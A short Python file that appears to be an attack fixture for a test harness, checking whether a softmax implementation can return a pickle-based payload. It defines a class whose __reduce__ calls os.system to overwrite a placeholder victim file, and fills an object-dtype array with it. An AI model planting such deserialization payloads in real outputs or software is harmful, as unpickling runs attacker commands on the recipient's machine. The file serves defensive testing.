# /// attack
# does = "answers with an array of objects whose unpickling would overwrite a file"
# own = { softmax = ["failed"] }
# ///
"""An array of dtype object is a pickle in disguise: np.load and multiprocessing treat it so. Such an array has no
form on the wire."""

import os


class Evil:
    def __reduce__(self):
        return os.system, ("echo overwritten > @VICTIM@; touch @FOLDER@/evil",)


def softmax(logits):
    answer = np.empty(logits.shape, dtype=object)
    answer.fill(Evil())
    return answer
